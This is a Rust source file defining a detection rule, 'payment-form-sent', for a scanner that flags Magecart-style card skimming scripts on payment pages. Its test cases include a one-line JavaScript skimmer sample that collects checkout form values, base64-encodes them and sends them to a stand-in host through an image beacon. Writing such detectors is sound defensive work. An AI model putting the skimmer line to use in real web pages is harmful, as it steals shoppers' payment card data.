//! `payment-form-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "payment-form-sent",
    description: "On a payment page, the script reads form fields, encodes data and sends it out.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART,
    needs: &[
        one(&[Atom::PaymentPlace, Atom::CardField]),
        one(&[Atom::FieldValue, Atom::FormContents]),
        one(&[Atom::Base64Encode, Atom::Encrypt, Atom::JsonEncode, Atom::UrlEncode]),
        one(&[
            Atom::AddressFromData,
            Atom::Beacon,
            Atom::Request,
            Atom::Post,
            Atom::Socket,
            Atom::FormTarget,
        ]),
    ],
    within: 320,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(/checkout/.test(location.href)){for(i=0;i<e.length;i++)d[e[i].name]=e[i].value;(new Image).src='//c.example/i.gif?'+btoa(d)}",
        ],
        without: &[
            "if(/checkout/.test(location.href)){show()}",
            "x.value=btoa(y);new Image().src='//c.example/'+y",
        ],
    },
};
